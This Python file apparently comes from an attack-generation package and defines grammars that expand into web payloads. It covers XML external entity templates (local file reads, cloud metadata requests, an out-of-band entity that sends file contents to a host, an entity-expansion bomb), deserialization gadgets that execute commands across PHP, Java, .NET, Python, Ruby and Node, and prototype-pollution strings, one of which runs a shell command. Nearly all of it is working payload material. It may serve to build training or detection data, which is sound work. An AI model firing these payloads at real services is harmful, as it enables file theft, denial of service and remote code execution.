"""Documents that carry more than data: XML entities, serialised objects, prototypes."""

from portcullis_train.attack.expand import Grammar

TABLES = {
    "uri": ["file://«file»", "http://«host»/«word».dtd", "http://169.254.169.254/latest/meta-data/", "php://filter/convert.base64-encode/resource=«file»", "expect://id", "file:///c:/windows/win.ini", "ftp://«host»:«port»/%«word»;", "http://127.0.0.1:«port»/", "jar:http://«host»!/«word»", "netdoc:«file»"],
    "ent": ["xxe", "«word»", "a", "x", "ext"],
    "gadget": ["java.lang.ProcessBuilder", "org.apache.commons.collections.functors.InvokerTransformer", "com.sun.rowset.JdbcRowSetImpl", "javax.management.BadAttributeValueExpException", "com.mchange.v2.c3p0.JndiRefForwardingDataSource", "System.Windows.Data.ObjectDataProvider, PresentationFramework", "org.springframework.context.support.ClassPathXmlApplicationContext", "ch.qos.logback.core.db.JNDIConnectionSource"],
}

GRAMMARS = [
    Grammar("xxe", [
        "<?xml version=\"1.0\"?><!DOCTYPE «word» [<!ENTITY «ent» SYSTEM \"«uri»\">]><«word»>&«ent»;</«word»>", "<!DOCTYPE «word» [<!ENTITY % «ent» SYSTEM \"«uri»\"> %«ent»;]>", "<!DOCTYPE foo SYSTEM \"«uri»\"><foo/>", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE r [<!ELEMENT r ANY><!ENTITY «ent» SYSTEM '«uri»'>]><r>&«ent»;</r>",
        "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"«uri»\"/></foo>", "<!DOCTYPE a PUBLIC \"-//«word»\" \"«uri»\"><a/>", "<!ENTITY % file SYSTEM \"«uri»\"><!ENTITY % eval \"<!ENTITY &#x25; out SYSTEM 'http://«host»/?x=%file;'>\">",
        "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:value-of select=\"document('«uri»')\"/></xsl:stylesheet>", "<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM \"«uri»\"> %dtd;]><xxx/>]]></foo></soap:Body>", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE t [ <!ENTITY x SYSTEM \"«uri»\"> ]><svg width=\"9px\" xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>"], TABLES),
    Grammar("deserialization", [
        "O:«n»:\"«word»\":1:{s:«n»:\"«word»\";s:«n»:\"«cmd»\";}", "a:1:{i:0;O:«n»:\"«word»\":0:{}}", "{\"@type\":\"«gadget»\",\"dataSourceName\":\"ldap://«target»/«word»\",\"autoCommit\":true}", "[\"«gadget»\",{\"«word»\":\"rmi://«target»/«word»\"}]", "{\"$type\":\"«gadget»\",\"MethodName\":\"Start\"}", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('«cmd»')}()\"}",
        "!!python/object/apply:os.system [\"«cmd»\"]", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://«host»/\"]]]]", "--- !ruby/object:Gem::Installer\ni: x", "cos\nsystem\n(S'«cmd»'\ntR.", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==", "<java><object class=\"java.lang.ProcessBuilder\"><void method=\"start\"/></object></java>",
        "_$$ND_FUNC$$_function (){require('child_process').exec('«cmd»', function(){});}()", "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=", "{\"py/object\":\"__main__.«word»\",\"py/reduce\":[{\"py/function\":\"os.system\"},[\"«cmd»\"]]}", "!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection", "O:+«n»:\"«word»\":0:{}", "C:11:\"ArrayObject\":37:{x:i:0;O:8:\"«word»\":0:{};m:a:0:{}}"], TABLES),
    Grammar("prototype-pollution", [
        "{\"__proto__\":{\"«isAdmin¦admin¦«word»»\":«true¦\"«word»\"¦1»}}", "{\"constructor\":{\"prototype\":{\"«word»\":«num»}}}", "__proto__[«word»]=«word»", "constructor[prototype][«word»]=«num»", "__proto__.«word»=«num»", "constructor.prototype.«word»=«word»", "{\"a\":{\"__proto__\":{\"shell\":\"node\",\"NODE_OPTIONS\":\"--inspect=«host»\"}}}", "[\"__proto__\"][\"«word»\"]", "x[__proto__][polluted]=«num»", "Object.prototype.«word»=«num»",
        "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('«cmd»');x\"}}"], TABLES),
]
